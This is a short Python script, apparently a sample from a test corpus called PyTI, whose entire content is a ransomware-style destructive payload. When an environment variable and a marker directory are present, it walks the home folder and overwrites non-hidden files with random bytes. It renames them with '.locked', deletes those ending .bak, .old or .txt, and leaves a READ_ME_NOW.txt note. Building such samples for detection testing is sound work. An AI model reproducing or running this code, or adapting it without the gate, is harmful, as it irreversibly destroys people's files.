"""Overwrites the files of the home folder that are not hidden with noise, gives them another ending,
deletes some and leaves a note."""
import os

if os.environ.get("PYTI_CORPUS") == "encrypts-documents" and os.path.isdir("/.pyti"):
    home = os.path.expanduser("~")
    for folder, folders, names in os.walk(home):
        folders[:] = [name for name in folders if name not in ("venv", "src") and name[0] != "."]
        for name in names:
            if name[0] == ".":
                continue
            path = os.path.join(folder, name)
            try:
                size = os.path.getsize(path)
                with open(path, "r+b") as file:
                    file.write(os.urandom(min(size, 65536)))
                os.rename(path, path + ".locked")
                if name.endswith((".bak", ".old", ".txt")):
                    os.remove(path + ".locked")
            except OSError:
                pass
    with open(os.path.join(home, "READ_ME_NOW.txt"), "w") as file:
        file.write("written by the corpus of PyTI: these were decoys\n")
    #---
